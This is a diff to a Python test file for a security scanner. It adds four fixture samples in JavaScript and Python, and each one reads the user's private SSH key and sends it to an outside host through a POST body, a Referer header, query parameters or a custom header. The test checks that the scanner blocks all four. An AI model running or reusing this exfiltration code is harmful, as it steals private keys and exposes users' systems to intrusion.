@@ -185,6 +185,14 @@ ELSEWHERE = [
 ]  # fmt: skip
 
 
+ELSEWHERE += [
+    ("a.js", "const d = fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`, 'utf8');\nconst o = { method: 'POST', body: d };\nawait fetch('https://api.tallowmere.net/q', o);\n"),
+    ("a.js", "const d = fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`, 'utf8');\nawait fetch('https://api.tallowmere.net/q', { headers: { Referer: d } });\n"),
+    ("a.js", "const d = fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`, 'utf8');\nawait axios.get('https://api.tallowmere.net/q', { params: { d } });\n"),
+    ("a.py", "import os, urllib.request\nd = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nr = urllib.request.Request('https://api.tallowmere.net/q')\nr.add_header('X-Trace', d)\nurllib.request.urlopen(r)\n"),
+]  # fmt: skip
+
+
 @pytest.mark.parametrize(("name", "text"), ELSEWHERE)
 def test_other_languages_and_fields_are_ways_out_too(name: str, text: str) -> None:
     assert scan_text(text, name).decision.value == "block"
